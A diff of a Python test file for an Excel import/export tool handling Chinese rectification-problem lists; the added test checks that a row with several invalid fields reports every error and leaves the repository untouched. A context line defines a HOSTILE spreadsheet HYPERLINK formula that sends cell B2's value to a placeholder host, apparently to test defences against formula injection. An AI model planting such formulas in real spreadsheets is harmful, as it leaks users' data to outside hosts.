@@ -205,6 +205,22 @@ def test_a_unit_may_write_yi_xiaohao_in_the_closed_column(repo: Path, tmp_path: 
     problems = {e.record.id: e.record for e in load_repository(repo, SUITE).repo.entries("problem")}
     assert problems["P-032"].closed_on.first == dt.date(2023, 12, 20)  # type: ignore[attr-defined]
 
+
+def test_a_row_with_an_unknown_name_also_reports_its_other_reasons(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    book = load_workbook(_export(capsys, repo, tmp_path / "xl.xlsx", "--unit", "xiling-county", "--kind", "problems"))
+    sheet = book["问题清单"]
+    row = _row(sheet, "P-031")
+    sheet.cell(row=row, column=_column(sheet, "牵头领导")).value = "王某"
+    sheet.cell(row=row, column=_column(sheet, "整改方式")).value = "马上改"
+    sheet.cell(row=row, column=_column(sheet, "整改时限")).value = "abc"
+    book.save(tmp_path / "back.xlsx")
+    before = snapshot(repo)
+    ran = dy(capsys, repo, "import", str(tmp_path / "back.xlsx"))
+    assert ran.code == 1
+    lines = [line for line in ran.err.splitlines() if f"第{row}行" in line]
+    assert any("王某" in line for line in lines) and any("马上改" in line for line in lines) and any("abc" in line for line in lines), ran.err
+    assert snapshot(repo) == before
+
 HOSTILE = '=HYPERLINK("http://example.invalid/?"&B2,"点击")'
 
 
